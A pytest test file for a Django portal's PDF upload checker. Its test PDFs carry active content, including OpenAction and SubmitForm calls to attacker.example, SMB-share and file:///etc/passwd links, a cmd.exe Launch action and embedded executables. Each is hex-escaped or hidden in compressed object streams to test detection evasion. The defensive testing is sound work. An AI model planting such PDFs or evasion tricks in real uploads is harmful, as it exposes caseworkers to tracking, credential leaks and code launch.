"""PDFs with actions are refused: every action plain, hex-escaped and in an object stream.

SECURITY-BAR "Learned in use" and issue 16, item 2: ``/OpenAction``, ``/AA``, ``/URI``,
``/GoToR``, ``/GoToE``, ``/SubmitForm``, ``/ImportData``, ``/Launch``, ``/JavaScript``,
``/RichMedia``, ``/XFA`` and embedded files make a PDF "phone home" or act on its own
when a caseworker opens it. The PDFs that people really upload (Chromium's print,
WeasyPrint, LibreOffice's "open at page 1") carry web links and destinations and stay
accepted.
"""

from __future__ import annotations

import io
import re
import struct
import subprocess
import zlib
from pathlib import Path

import pytest
from django.utils import translation

from applications.models import Upload
from applications.views import JOURNEYS
from portal import uploads
from portal.uploads import check_upload
from tests.chromium import CHROMIUM, CHROMIUM_ARGS
from tests.factories import DraftFactory, draft_open
from tests.journeys import step_answers, step_url
from tests.portal.upload_pages import PAGE, PAGES, english, handmade_pdf, rejection, upload

ACTION_REF = b"4 0 R"


def compressed_pdf(catalog: bytes, page: bytes, *extra: bytes) -> bytes:
    """A PDF 1.5 whose every object (catalog, pages, page, extras) sits in ONE compressed
    object stream, found through a cross-reference stream: its bytes show no name at all."""
    bodies = [catalog, PAGES, page, *extra]
    numbers = list(range(1, len(bodies) + 1))
    header = b""
    packed_bodies = b""
    for number, body in zip(numbers, bodies, strict=True):
        header += b"%d %d " % (number, len(packed_bodies))
        packed_bodies += body + b"\n"
    packed = zlib.compress(header + packed_bodies)
    stream_number = len(bodies) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(bodies),
        len(header),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = struct.pack(">BIH", 0, 0, 0xFFFF)
    for index, _number in enumerate(numbers):
        rows += struct.pack(">BIH", 2, stream_number, index)
    rows += struct.pack(">BIH", 1, stream_offset, 0) + struct.pack(">BIH", 1, xref_offset, 0)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    out += b"stream\n" + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    assert b"/Catalog" not in out  # nothing readable outside the compressed stream
    return bytes(out)


def hex_escaped(body: bytes, name: bytes) -> bytes:
    """``body`` with each ``name`` (``/OpenAction``) written ``/#4FpenAction`` (PDF 7.3.5)."""
    escaped = b"/#%02X" % name[1] + name[2:]
    return re.sub(re.escape(name) + rb"(?![A-Za-z0-9])", lambda _m: escaped, body)


def catalog_with(entries: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>"


def page_with(entries: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + entries + b" >>"


def link_with(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A " + action + b" >>"


CATALOG = catalog_with(b"")
PAGE_WITH_ANNOTATION = page_with(b"/Annots [4 0 R]")
CATALOG_WITH_OPEN_ACTION = catalog_with(b"/OpenAction 4 0 R")
L = uploads.kinds  # the labels, as the message names them

# (id, name to escape, catalog, page, extra objects, label the message names)
ACTIONS = [
    (
        "open-action-uri",
        b"/OpenAction",
        catalog_with(b"/OpenAction << /S /URI /URI (https://attacker.example/ping) >>"),
        PAGE,
        (),
        L.AUTOMATIC_ACTION_LABEL,
    ),
    (
        "open-action-referenced-uri",
        b"/OpenAction",
        CATALOG_WITH_OPEN_ACTION,
        PAGE,
        (b"<< /S /URI /URI (https://attacker.example/ping) >>",),
        L.AUTOMATIC_ACTION_LABEL,
    ),
    (
        "open-action-goto-then-uri",
        b"/Next",
        catalog_with(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
            b"/Next << /S /URI /URI (https://attacker.example/ping) >> >>"
        ),
        PAGE,
        (),
        L.AUTOMATIC_ACTION_LABEL,
    ),
    (
        "additional-action-on-page-open",
        b"/AA",
        CATALOG,
        page_with(b"/AA << /O << /S /URI /URI (https://attacker.example/ping) >> >>"),
        (),
        L.AUTOMATIC_ACTION_LABEL,
    ),
    (
        "additional-action-on-document-close",
        b"/AA",
        catalog_with(b"/AA << /WC << /S /URI /URI (https://attacker.example/) >> >>"),
        PAGE,
        (),
        L.AUTOMATIC_ACTION_LABEL,
    ),
    (
        "uri-to-a-file",
        b"/URI",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /S /URI /URI (file:///etc/passwd) >>"),),
        L.UNSAFE_LINK_LABEL,
    ),
    (
        "uri-to-a-windows-share",
        b"/URI",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(rb"<< /S /URI /URI (\\\\attacker\\share\\x.pdf) >>"),),
        L.UNSAFE_LINK_LABEL,
    ),
    (
        "uri-to-smb-as-hex-string",
        b"/URI",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /S /URI /URI <" + b"smb://attacker/share".hex().encode() + b"> >>"),),
        L.UNSAFE_LINK_LABEL,
    ),
    (
        "goto-remote-windows-share",
        b"/GoToR",
        catalog_with(rb"/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"),
        PAGE,
        (),
        L.OTHER_DOCUMENT_LABEL,
    ),
    (
        "goto-remote-link",
        b"/GoToR",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /S /GoToR /F (https://attacker.example/x.pdf) /D [0 /Fit] >>"),),
        L.OTHER_DOCUMENT_LABEL,
    ),
    (
        "goto-embedded",
        b"/GoToE",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),),
        L.OTHER_DOCUMENT_LABEL,
    ),
    (
        "submit-form",
        b"/SubmitForm",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /S /SubmitForm /F (https://attacker.example/collect) >>"),),
        L.SUBMIT_FORM_LABEL,
    ),
    (
        "import-data",
        b"/ImportData",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /S /ImportData /F (https://attacker.example/x.fdf) >>"),),
        L.IMPORT_DATA_LABEL,
    ),
    (
        "launch",
        b"/Launch",
        CATALOG_WITH_OPEN_ACTION,
        PAGE,
        (b"<< /S /Launch /F (cmd.exe) >>",),
        L.LAUNCH_LABEL,
    ),
    (
        "javascript",
        b"/JavaScript",
        CATALOG_WITH_OPEN_ACTION,
        PAGE,
        (b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",),
        L.JAVASCRIPT_LABEL,
    ),
    (
        "javascript-key-only",
        b"/JS",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (link_with(b"<< /JS (app.alert\\(1\\)) >>"),),
        L.JAVASCRIPT_LABEL,
    ),
    (
        "rich-media",
        b"/RichMedia",
        CATALOG,
        PAGE_WITH_ANNOTATION,
        (b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>",),
        L.RICH_MEDIA_LABEL,
    ),
    (
        "xfa-form",
        b"/XFA",
        catalog_with(b"/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"),
        PAGE,
        (),
        L.XFA_LABEL,
    ),
    (
        "embedded-files",
        b"/EmbeddedFiles",
        catalog_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
        PAGE,
        (b"<< /Type /Filespec /F (a.exe) >>",),
        L.EMBEDDED_FILE_LABEL,
    ),
    (
        "embedded-file",
        b"/EmbeddedFile",
        CATALOG,
        PAGE,
        (b"<< /Type /EmbeddedFile /Subtype /application#2Foctet-stream >>",),
        L.EMBEDDED_FILE_LABEL,
    ),
]

VARIANTS = {
    "plain": lambda name, catalog, page, extra: handmade_pdf(catalog, page, *extra),
    "hex-escaped": lambda name, catalog, page, extra: handmade_pdf(
        hex_escaped(catalog, name),
        hex_escaped(page, name),
        *(hex_escaped(body, name) for body in extra),
    ),
    "object-stream": lambda name, catalog, page, extra: compressed_pdf(catalog, page, *extra),
}


@pytest.mark.parametrize("variant", list(VARIANTS))
@pytest.mark.parametrize(
    ("name", "catalog", "page", "extra", "label"),
    [pytest.param(*case[1:], id=case[0]) for case in ACTIONS],
)
def test_every_action_is_refused_plain_hex_escaped_and_in_an_object_stream(
    variant, name, catalog, page, extra, label
):
    content = VARIANTS[variant](name, catalog, page, extra)
    if variant == "hex-escaped":
        assert name not in content  # the name is really written escaped
    error = rejection("antrag.pdf", content)
    assert error.code == "pdf_active_content"
    with translation.override("en"):
        assert error.params == {"detected": label}
        assert f"active content ({label})" in english(error)


def test_a_link_to_a_file_in_an_object_no_page_refers_to_is_refused():
    content = handmade_pdf(
        catalog_with(b""), PAGE, link_with(b"<< /S /URI /URI (file://attacker/x) >>")
    )
    assert rejection("antrag.pdf", content).code == "pdf_active_content"


def test_a_link_whose_start_is_escaped_is_refused_in_doubt():
    content = handmade_pdf(
        CATALOG, PAGE_WITH_ANNOTATION, link_with(b"<< /S /URI /URI (\\150ttps://x.example/) >>")
    )
    assert rejection("antrag.pdf", content).code == "pdf_active_content"


# --- What ordinary PDFs carry stays accepted ------------------------------------------------

WEB_LINKS = (
    link_with(b"<< /Type /Action /S /URI /URI (https://www.nuernberg.de/) >>"),
    link_with(b"<< /S /URI /URI (mailto:amt@example.org) >>"),
    link_with(b"<< /S /URI /URI <" + b"http://example.org/".hex().encode() + b"> >>"),
    link_with(b"<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>"),
)
PAGE_WITH_LINKS = page_with(b"/Annots [4 0 R 5 0 R 6 0 R 7 0 R]")
ORDINARY = {
    # LibreOffice opens at the first page with an explicit destination.
    "open-at-page-one": lambda: handmade_pdf(
        catalog_with(b"/OpenAction [3 0 R /XYZ null null 0]"), PAGE
    ),
    "open-action-goto": lambda: handmade_pdf(
        catalog_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), PAGE
    ),
    "web-and-mail-links": lambda: handmade_pdf(CATALOG, PAGE_WITH_LINKS, *WEB_LINKS),
    "web-links-hex-escaped": lambda: handmade_pdf(
        CATALOG, PAGE_WITH_LINKS, *(hex_escaped(body, b"/URI") for body in WEB_LINKS)
    ),
    "web-links-in-an-object-stream": lambda: compressed_pdf(CATALOG, PAGE_WITH_LINKS, *WEB_LINKS),
    "base-uri-dictionary": lambda: handmade_pdf(
        catalog_with(b"/URI << /Base (https://www.nuernberg.de/) >>"), PAGE
    ),
}


@pytest.mark.parametrize("build", list(ORDINARY.values()), ids=list(ORDINARY))
def test_ordinary_destinations_and_web_links_are_accepted(build):
    assert check_upload(upload("antrag.pdf", build())).kind == "pdf"


LINKED_PAGE = """<!doctype html><html lang="de"><head><meta charset="utf-8">
<title>Kontoauszug</title></head><body><h1 id="oben">Kontoauszug</h1>
<p>Fragen: <a href="https://www.nuernberg.de/">www.nuernberg.de</a>,
<a href="mailto:amt@example.org">amt@example.org</a>, <a href="#oben">nach oben</a>.</p>
</body></html>"""


@pytest.mark.parametrize("variant", [None, "pdf/ua-1", "pdf/a-3b"])
def test_weasyprint_pdfs_with_links_are_accepted(variant):
    import weasyprint

    content = weasyprint.HTML(string=LINKED_PAGE).write_pdf(pdf_variant=variant)
    assert b"/URI" in content or b"/ObjStm" in content
    assert check_upload(upload("kontoauszug.pdf", content)).kind == "pdf"


def test_the_portals_own_receipt_layout_is_accepted():
    from portal.pdf import render_to_pdf

    content = render_to_pdf("pdf/base.html", {})
    assert check_upload(upload("eingangsbestaetigung.pdf", content)).kind == "pdf"


@pytest.mark.browser
def test_a_page_printed_to_pdf_by_chromium_is_accepted(tmp_path: Path):
    page = tmp_path / "kontoauszug.html"
    page.write_text(LINKED_PAGE, encoding="utf-8")
    target = tmp_path / "kontoauszug.pdf"
    subprocess.run(
        [CHROMIUM, *CHROMIUM_ARGS, f"--print-to-pdf={target}", page.as_uri()],
        check=True,
        capture_output=True,
        timeout=120,
    )
    content = target.read_bytes()
    assert b"/URI (https://www.nuernberg.de/)" in content  # Chromium keeps the links
    assert check_upload(upload("kontoauszug.pdf", content)).kind == "pdf"


# --- Through the page: the message next to the field ------------------------------------------


@pytest.mark.django_db
def test_a_pdf_that_calls_home_is_refused_next_to_its_field_and_not_stored(client):
    draft_open(
        client,
        DraftFactory(kind="renewal", at_step="documents", at_step__answers=step_answers("renewal")),
    )
    calling_home = io.BytesIO(
        handmade_pdf(
            catalog_with(b"/OpenAction << /S /URI /URI (https://attacker.example/ping) >>"),
            PAGE,
        )
    )
    calling_home.name = "pass.pdf"
    response = client.post(
        step_url("renewal", "documents"),
        {
            f"{JOURNEYS['renewal'].journey}-current_step": "documents",
            "documents-file_passport": calling_home,
        },
    )
    assert response.status_code == 200
    errors = response.context["form"].errors["file_passport"]
    assert len(errors) == 1
    assert "aktive Inhalte" in errors[0]
    html = response.content.decode()
    assert 'class="kern-alert kern-alert--danger error-summary"' in html
    assert 'href="#id_documents-file_passport"' in html  # the summary links to the field
    assert 'id="id_documents-file_passport-error"' in html  # the message at the field
    assert html.count("aktive Inhalte") == 2
    assert not Upload.objects.exists()
